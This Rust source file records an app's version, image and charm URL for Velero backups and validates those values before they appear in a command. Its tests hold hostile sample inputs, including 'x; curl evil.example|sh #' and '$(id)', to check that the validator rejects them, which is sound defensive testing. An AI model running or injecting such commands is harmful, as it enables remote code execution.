//! What a backup says of the app: which version, from which image, by which charm.
//!
//! The command that Velero runs before a backup has no hook tools. So each dispatch writes down what it knows, in a file beside the
//! charm's folder. The file goes with the pod, and so does the image.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use crate::facts::{Container, Facts};
use crate::profile::AppProfile;
use crate::unit_file;

/// What is known of an app, as it goes into a manifest.
pub type About = BTreeMap<String, String>;

/// Key of the app's name: that of its charm.
pub const APP: &str = "app";
/// Key of the app's version, as its image tells it.
pub const VERSION: &str = "version";
/// Key of the image that it runs from.
pub const IMAGE: &str = "image";
/// Key of the charm's URL, with its revision.
pub const CHARM: &str = "charm";

/// The file's name, in the folder of the unit's agent.
const FILE: &str = "app-record.json";

/// Where Juju's agent writes down which charm it has unpacked (`charmURLPath` in internal/worker/uniter/charm/charm.go).
const CHARM_URL: &str = ".juju-charm";

/// Of what a manifest says, what is known here and has its form: a backup may come from anywhere, and a person is shown it as part of a
/// command.
pub fn trusted(said: &About) -> About {
    let kept = [APP, VERSION, IMAGE, CHARM].into_iter().filter_map(|key| {
        let value = said.get(key)?;
        let others: &[u8] = match key {
            IMAGE => b"._-/:@",
            CHARM => b"._-/:",
            _ => b"._-+~",
        };
        let is_fit = |byte: u8| byte.is_ascii_alphanumeric() || others.contains(&byte);
        let longest = if key == IMAGE { 255 } else { 100 };
        let begins = value.starts_with(|first: char| first.is_ascii_alphanumeric());
        (begins && value.len() <= longest && value.bytes().all(is_fit))
            .then(|| (key.to_owned(), value.clone()))
    });
    kept.collect()
}

/// What a dispatch knows of the app beyond what it knew before.
pub fn known(profile: &AppProfile, facts: &Facts) -> About {
    let mut about = About::from([(APP.to_owned(), profile.name.clone())]);
    if let Container::Ready(container) = &facts.container
        && let Some(version) = &container.version
    {
        about.insert(VERSION.to_owned(), version.clone());
    }
    if let Some(Ok(pod)) = &facts.pod
        && let Some(image) = pod.images.get(&profile.name)
    {
        about.insert(IMAGE.to_owned(), image.clone());
    }
    about
}

/// What is written down of the app of the unit with this charm folder, and what is `known` besides.
pub fn read(charm_dir: &Path, known: About) -> About {
    let mut about = written(charm_dir);
    about.extend(known);
    about
}

fn written(charm_dir: &Path) -> About {
    let written = fs::read(path(charm_dir)).unwrap_or_default();
    serde_json::from_slice(&written).unwrap_or_default()
}

/// Writes down what is `known`. Without the file a backup says less, and that is all.
pub fn keep(charm_dir: &Path, known: About) {
    let before = written(charm_dir);
    let mut about = before.clone();
    about.extend(known);
    if let Some(url) = charm_url(charm_dir) {
        about.insert(CHARM.to_owned(), url);
    }
    if about == before {
        return;
    }
    let text = serde_json::to_vec(&about).unwrap_or_default();
    if let Err(error) = unit_file::write(&path(charm_dir), &text) {
        log::debug!("what is known of the app cannot be kept: {error}");
    }
}

fn charm_url(charm_dir: &Path) -> Option<String> {
    let text = fs::read_to_string(charm_dir.join(CHARM_URL)).ok()?;
    let url = text.trim().trim_matches(['"', '\'']);
    (!url.is_empty()).then(|| url.to_owned())
}

fn path(charm_dir: &Path) -> PathBuf {
    unit_file::path(charm_dir, FILE)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_part_of_a_command_has_the_form_of_what_it_should_be() {
        let said = |key: &str, value: &str| About::from([(key.to_owned(), value.to_owned())]);
        for (key, value) in [
            (IMAGE, "lscr.io/linuxserver/radarr:6.1.1.10360-ls299"),
            (
                IMAGE,
                "registry.jujucharms.com/charm/abc/radarr-image@sha256:0123",
            ),
            (VERSION, "6.1.1.10360-ls299"),
            (CHARM, "ch:amd64/radarr-12"),
            (APP, "radarr"),
        ] {
            assert_eq!(trusted(&said(key, value)), said(key, value));
        }
        for (key, value) in [
            (IMAGE, "x; curl evil.example|sh #"),
            (IMAGE, "--force"),
            (IMAGE, "$(id)"),
            (VERSION, "6.1\u{202e}1"),
            (VERSION, ""),
            ("other", "6.1.1"),
        ] {
            assert_eq!(trusted(&said(key, value)), About::new(), "{value}");
        }
        assert_eq!(trusted(&said(IMAGE, &"a".repeat(256))), About::new());
    }

    #[test]
    fn what_one_dispatch_knows_is_kept_when_the_next_knows_less() {
        let folder = tempfile::tempdir().unwrap();
        let charm_dir = folder.path().join("charm");
        fs::create_dir(&charm_dir).unwrap();
        let about = |entries: &[(&str, &str)]| -> About {
            let entries = entries.iter();
            entries
                .map(|(key, value)| ((*key).to_owned(), (*value).to_owned()))
                .collect()
        };
        keep(&charm_dir, about(&[(APP, "radarr"), (VERSION, "6.1.1")]));
        fs::write(charm_dir.join(CHARM_URL), "ch:amd64/radarr-12\n").unwrap();
        keep(&charm_dir, about(&[(APP, "radarr")]));
        let expected = about(&[(APP, "radarr"), (VERSION, "6.1.1"), (CHARM, "ch:amd64/radarr-12")]);
        assert_eq!(read(&charm_dir, About::new()), expected);
        assert_eq!(read(&charm_dir, about(&[(VERSION, "6.2")]))[VERSION], "6.2");
        fs::write(path(&charm_dir), "no JSON").unwrap();
        assert_eq!(read(&charm_dir, About::new()), About::new());
    }
}
